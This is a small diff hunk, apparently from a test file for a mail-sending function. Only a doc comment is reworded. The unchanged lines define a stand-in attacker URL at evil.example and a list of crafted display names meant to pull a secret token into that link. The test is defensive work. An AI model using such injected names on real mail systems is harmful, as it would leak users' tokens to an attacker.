@@ -38,7 +38,7 @@ async function onlyMail() {
 
 const evil = 'https://evil.example/c?t='
 
-/** What somebody might call themselves to have a token put where they want it. */
+/** Names that try to place a token elsewhere in a mail. */
 const greedyNames = [
   `confirm at ${evil}\u{E000}secret\u{E001}`,
   `\u{E000}secret\u{E001}`,
